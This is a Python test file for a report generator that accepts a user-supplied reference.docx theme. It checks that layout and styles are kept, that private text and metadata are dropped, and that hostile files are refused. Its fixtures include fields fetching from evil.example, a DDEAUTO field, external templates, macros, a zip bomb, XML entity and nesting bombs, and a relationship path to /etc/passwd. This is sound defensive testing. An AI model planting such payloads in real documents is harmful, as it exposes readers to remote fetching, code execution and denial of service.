"""A theme that brings its own reference.docx: its page and styles are kept, and nothing it hides gets out."""

from __future__ import annotations

import base64
import io
import re
import subprocess
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.enum.section import WD_ORIENT
from docx.shared import Mm, Pt, RGBColor

from nianbao import SettingError
from nianbao.pandoc import pandoc
from nianbao.themes import theme
from nianbao_pandoc import Docx

from .conftest import W, bare, document
from .test_valid import PICTURE, package_mistakes, validator

__all__ = ["validator"]
HEADER = '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
EXTERNAL = '<Relationship Id="out" Type="http://x/{}" Target="http://evil.example/x" TargetMode="External"/></Relationships>'


def saved(file) -> bytes:
    buffer = io.BytesIO()
    file.save(buffer)
    return buffer.getvalue()


def from_a_stranger() -> bytes:
    """A4 landscape, a header with a picture, a first page of its own, a title in green, text that is nobody's business."""
    file = docx.Document()
    section = file.sections[0]
    section.orientation, section.page_width, section.page_height = WD_ORIENT.LANDSCAPE, Mm(297), Mm(210)
    section.left_margin = section.right_margin = Mm(30)
    section.different_first_page_header_footer = True
    section.header.paragraphs[0].text = "甲县人民政府办公室"
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(base64.b64decode(PICTURE.partition(",")[2])))
    section.footer.paragraphs[0].text = "内部编号"
    file.styles["Title"].font.color.rgb = RGBColor(0, 0x80, 0)
    file.styles["Normal"].font.size = Pt(15)
    file.add_paragraph("草拟中的秘密")
    file.core_properties.author = "不愿具名"
    return saved(file)


def from_chinese_word() -> bytes:
    """Word in Chinese numbers the ids of its styles, and keeps their names in English."""
    names = {"Normal": "a", "Heading1": "1", "Heading2": "2", "Title": "a3", "TableNormal": "a1"}
    parts = dict(opened(saved(docx.Document())))
    for name in ("word/styles.xml", "word/document.xml"):
        for long, short in names.items():
            parts[name] = re.sub(rf'(w:(?:styleId|val)="){long}"', rf'\g<1>{short}"', parts[name].decode()).encode()
        parts[name] = parts[name].replace(b'<w:name w:val="a"/>', b'<w:name w:val="Normal"/>')
        parts[name] = parts[name].replace(b'<w:name w:val="a3"/>', b'<w:name w:val="Title"/>')
    return zipped(parts)


def from_pandoc() -> bytes:
    return subprocess.run([pandoc(), "--print-default-data-file", "reference.docx"], check=True, capture_output=True).stdout


MAKERS: dict[str, Callable[[], bytes]] = {
    "a stranger": from_a_stranger,
    "Chinese Word": from_chinese_word,
    "pandoc": from_pandoc,
    "ourselves": lambda: Docx().render(document())[".docx"],
}


def opened(data: bytes) -> list[tuple[str, bytes]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [(name, archive.read(name)) for name in archive.namelist()]


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def changed(part: str, change: Callable[[bytes], bytes] | None, data: bytes = b"") -> bytes:
    """The stranger's file with one part changed, added or, by None, left out."""
    parts = dict(opened(data or from_a_stranger()))
    if change is None:
        del parts[part]
    else:
        parts[part] = change(parts.get(part, b""))
    return zipped(parts)


def with_field(*runs: str) -> bytes:
    """The stranger's file with a field in its header: `{`, `|` and `}` begin, separate and end it, all else is instruction."""
    marks = {"{": "begin", "|": "separate", "}": "end"}
    xml = "".join(
        f'<w:r><w:fldChar w:fldCharType="{marks[run]}"/></w:r>'
        if run in marks
        else run if run.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>'
        for run in runs
    )  # fmt: skip
    return changed("word/header1.xml", lambda old: old.replace(b"</w:hdr>", f"<w:p>{xml}</w:p></w:hdr>".encode()))


def with_setting(setting: str) -> bytes:
    return changed("word/settings.xml", lambda xml: xml.replace(b"</w:settings>", f"{setting}</w:settings>".encode()))


@pytest.fixture(scope="module")
def own(word):
    return word(reference=from_a_stranger())


@pytest.mark.parametrize("draft", [False, True])
@pytest.mark.parametrize("maker", MAKERS)
def test_whoever_made_it_the_report_is_valid_and_whole(word, final, validator, maker, draft):
    made = word(reference=MAKERS[maker](), draft=draft)
    assert validator(made.data) == []
    assert package_mistakes(made.data) == []
    assert made.words() == final.words()


def test_the_page_and_what_stands_on_every_page_are_the_themes(own):
    (section,) = own.docx.sections
    assert [round(side.mm) for side in (section.page_width, section.page_height, section.left_margin)] == [297, 210, 30]
    assert section.header.paragraphs[0].text == "甲县人民政府办公室"
    assert section.footer.paragraphs[0].text == "内部编号"
    assert section.different_first_page_header_footer
    assert [name for name, _ in opened(own.data) if name.startswith("word/media/")]


def test_its_styles_are_kept_and_those_it_lacks_are_the_declarations(own):
    assert own.styles["Title"].font.color.rgb == RGBColor(0, 0x80, 0)
    assert own.styles["Normal"].font.size == Pt(15)
    assert own.styles["Table Number"].font.size == Pt(9)
    assert own.docx.tables[0].style.name == "Statutory Table"
    assert {"Note", "Run-in Heading"} <= set(own.styles)


def test_tables_are_as_wide_as_its_text(own):
    table = own.body.find(f"{W}tbl")
    assert int(table.find(f"{W}tblPr/{W}tblW").get(f"{W}w")) == pytest.approx(Mm(297 - 60).twips, abs=2)


def test_styles_are_known_by_name_whatever_their_ids(word):
    made = word(reference=from_chinese_word())
    assert next(p for p in made.docx.paragraphs if p.text.startswith("一、")).style.style_id == "1"
    assert next(p for p in made.docx.paragraphs if p.text.startswith("石家河镇")).style.style_id == "a3"
    assert len([style for style in made.docx.styles if style.name.casefold() in ("title", "heading 1")]) == 2


def test_a_style_whose_id_is_taken_by_another_gets_one_of_its_own(word, validator):
    taken = changed("word/styles.xml", lambda xml: xml.replace(b"</w:styles>", b'<w:style w:type="paragraph" w:styleId="TableNumber"><w:name w:val="Elsewhere"/></w:style></w:styles>'))  # fmt: skip
    made = word(reference=taken)
    assert validator(made.data) == []
    assert {"Table Number", "Elsewhere"} <= set(made.styles)


def test_headings_are_not_numbered_twice(word):
    numbered = changed("word/styles.xml", lambda xml: xml.replace(b"<w:keepNext/>", b"<w:keepNext/><w:numPr><w:numId w:val='1'/></w:numPr>"))  # fmt: skip
    assert b"numPr" not in dict(opened(word(reference=numbered).data))["word/styles.xml"]


def test_a_draft_says_so_on_every_page_beside_what_stands_there(word):
    (section,) = word(reference=from_a_stranger(), draft=True).docx.sections
    assert [p.text for p in section.header.paragraphs] == ["草稿", "甲县人民政府办公室"]
    assert [p.text for p in section.first_page_header.paragraphs][:1] == ["草稿"]
    assert section.header.paragraphs[0].style.name == "Draft Mark"


def test_what_else_the_file_holds_stays_behind(own):
    for name, content in opened(own.data):
        assert "草拟中".encode() not in content, name
        assert "不愿具名".encode() not in content, name


def test_the_same_file_gives_the_same_bytes(own, word):
    assert word(reference=from_a_stranger()).data == own.data


def bomb() -> bytes:
    return changed("word/media/large.png", lambda _: b"\0" * 30_000_000)


@pytest.mark.parametrize(
    "runs",
    [
        ("{", "INCLU", "DEPICTURE &quot;http://evil.example/&quot; \\d", "|", "}"),
        ("{", "PAGE", "|", "}", "{", " I", "NC", "LUDETEXT x", "}"),
        ("{", "PAGE", "|", "{", "LINK x", "}", "}"),
        ("{", "IF 1=1 ", "{", "DDEAUTO x", "|", "}", "|", "}"),
        ("{", "INCL", "{", "TITLE", "|", "}", "x", "|", "}"),
        ("{", "PAGE", "{", "TITLE", "|", "}", "|", "}"),
        ("{", "<w:r><w:t>INCLUDE</w:t></w:r>", "TEXT x", "|", "}"),
        ("{", "includepicture x"),
        ("{", "|", "}"),
        ("MACROBUTTON x",),
        ("{", "PAGEREF x", "|", "}"),
        ('<w:fldSimple w:instr="HYPERLINK x"/>',),
        ('<w:fldSimple w:instr=" quote x"/>',),
    ],
)
def test_a_field_that_is_not_known_to_be_harmless_is_refused_however_it_is_cut_up(runs):
    with pytest.raises(SettingError, match="field"):
        Docx().render(document(reference=with_field(*runs)))


def test_fields_that_count_pages_or_repeat_a_word_are_kept(word, validator):
    kept = with_field(
        "{", " PA", "GE \\* MERGEFORMAT ", "|", "<w:r><w:t>1</w:t></w:r>", "}", "{", "NUMPAGES\\*Arabic", "|", "}", "{", "TITLE", "}",
        "{", " = ", "{", "PAGE", "|", "}", " - 1", "|", "}", '<w:fldSimple w:instr=" STYLEREF &quot;heading 1&quot; "/>', "{", 'date \\@ "yyyy"', "|", "}",
    )  # fmt: skip
    made = word(reference=kept)
    assert validator(made.data) == []
    header = next(content for name, content in opened(made.data) if name.startswith("word/header") and b"MERGEFORMAT" in content)
    assert b"STYLEREF" in header


def test_of_its_settings_only_those_that_lay_text_out_are_kept(word):
    made = word(
        reference=with_setting('<w:updateFields w:val="1"/><w:trackRevisions/><w:noLineBreaksAfter w:lang="zh-CN" w:val="（"/>')
    )
    settings = dict(opened(made.data))["word/settings.xml"].decode()
    assert "noLineBreaksAfter" in settings
    assert 'w:defaultTabStop w:val="720"' in settings
    assert "compatibilityMode" in settings
    assert not re.search("updateFields|trackRevisions|00B47730|shapeDefaults", settings)


def test_styles_too_deep_are_refused_at_once():
    begun = time.monotonic()
    with pytest.raises(SettingError, match="levels deep"):
        Docx().render(document(reference=HOSTILE["styles 20,000 levels deep"]()))
    assert time.monotonic() - begun < 2


HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "a space": lambda: b" ",
    "no zip": lambda: b"PK\x03\x04 no zip at all",
    "cut off": lambda: from_a_stranger()[:9000],
    "one byte wrong": lambda: (data := from_a_stranger())[:4000] + bytes([data[4000] ^ 255]) + data[4001:],
    "an old .doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "a zip bomb": bomb,
    "ten thousand parts": lambda: zipped({f"word/{number}.xml": b"" for number in range(10_000)}),
    "a workbook": lambda: changed("word/document.xml", lambda xml: xml.replace(b"w:document", b"w:workbook")),
    "no styles": lambda: changed("word/styles.xml", None),
    "no document": lambda: changed("word/document.xml", None),
    "no types": lambda: changed("[Content_Types].xml", None),
    "no relationships": lambda: changed("_rels/.rels", None),
    "broken XML": lambda: changed("word/styles.xml", lambda xml: xml[:-20]),
    "entities": lambda: changed("word/styles.xml", lambda xml: b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + xml),
    "entities in UTF-16": lambda: changed("word/styles.xml", lambda _: '<!DOCTYPE x [<!ENTITY a "a">]><x/>'.encode("utf-16")),
    "macros": lambda: changed("word/vbaProject.bin", lambda _: b"x"),
    "a macro type": lambda: changed("[Content_Types].xml", lambda xml: xml.replace(b"wordprocessingml.document.main", b"macroEnabled")),
    "an embedded object": lambda: changed("word/embeddings/oleObject1.bin", lambda _: b"x"),
    "a picture from outside": lambda: changed("word/_rels/header1.xml.rels", lambda xml: xml.replace(b"</Relationships>", EXTERNAL.format("image").encode())),
    "an old drawing from outside": lambda: with_field('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/x"/></v:shape></w:pict></w:r>'),
    "a template from outside": lambda: changed("word/_rels/settings.xml.rels", lambda _: b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + EXTERNAL.format("attachedTemplate").encode()),
    "a field that fetches": lambda: changed("word/header1.xml", lambda xml: xml.replace(b"</w:hdr>", b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example "/></w:p></w:hdr>')),
    "a field in pieces": lambda: changed("word/header1.xml", lambda xml: xml.replace(b"</w:hdr>", b"<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT x</w:instrText></w:r></w:p></w:hdr>")),
    "a mail merge": lambda: with_setting("<w:mailMerge><w:mainDocumentType w:val='formLetters'/><w:query w:val='SELECT'/></w:mailMerge>"),
    "a template of its own": lambda: with_setting('<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="x"/>'),
    "no editing": lambda: with_setting('<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'),
    "no writing": lambda: with_setting('<w:writeProtection w:recommended="1"/>'),
    "styles 20,000 levels deep": lambda: changed("word/styles.xml", lambda xml: xml.replace(b"</w:styles>", b"<w:x>" * 20_000 + b"</w:x>" * 20_000 + b"</w:styles>")),
    "fonts 20,000 levels deep": lambda: changed("word/fontTable.xml", lambda xml: xml.replace(b"</w:fonts>", b"<w:x>" * 20_000 + b"</w:x>" * 20_000 + b"</w:fonts>")),
    "a style whose id is markup": lambda: changed("word/styles.xml", lambda xml: re.sub(rb'w:styleId="[^"]*"', b'w:styleId="x&quot;/&gt;&lt;w:r"', xml, count=1)),
    "a header that is not UTF-8": lambda: changed("word/header1.xml", lambda xml: xml.replace(b"</w:hdr>", b"<w:p>\xb2\xdd</w:p></w:hdr>")),
    "no room": lambda: changed("word/document.xml", lambda xml: re.sub(rb'w:left="\d+"', b'w:left="16000"', xml)),
    "no number": lambda: changed("word/document.xml", lambda xml: re.sub(rb'w:left="\d+"', b'w:left="left"', xml)),
    "a header that is not there": lambda: changed("word/header1.xml", None),
    "a path out of the file": lambda: changed("word/_rels/document.xml.rels", lambda xml: xml.replace(b"styles.xml", b"../../../etc/passwd")),
}  # fmt: skip


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_file_that_cannot_be_used_is_a_message_with_its_remedy(hostile):
    with pytest.raises(SettingError) as raised:
        Docx().render(document(reference=HOSTILE[hostile]()))
    assert raised.value.place.startswith("assets/reference.docx")
    assert raised.value.mend
    assert bare(raised.value.zh) != bare(raised.value.en)


def test_a_clerk_is_told_in_the_terminal_and_keeps_the_report_of_before(run, workspace):
    folder = workspace / "themes/ours"
    (folder / "assets").mkdir(parents=True)
    (folder / "theme.yaml").write_text("extends: national\n", encoding="utf-8")
    (folder / "assets/reference.docx").write_bytes(from_a_stranger())
    settings = workspace / "jurisdictions/luhe.yaml"
    settings.write_text(settings.read_text("utf-8").replace("theme: national", "theme: ./themes/ours"), encoding="utf-8")
    made = run("build", "luhe", "-F", "docx")
    assert made.exit_code == 0, made.stderr
    before = Path(made.stdout.strip()).read_bytes()
    assert docx.Document(io.BytesIO(before)).sections[0].header.paragraphs[0].text == "甲县人民政府办公室"
    theme.cache_clear()
    (folder / "assets/reference.docx").write_bytes(b"\xd0\xcf\x11\xe0")
    failed = run("build", "luhe", "-F", "docx")
    assert failed.exit_code == 2
    assert "old .doc" in failed.stderr
    assert "assets/reference.docx" in failed.stderr
    assert "themes/ours: the theme's reference document" in failed.stderr
    assert Path(made.stdout.strip()).read_bytes() == before
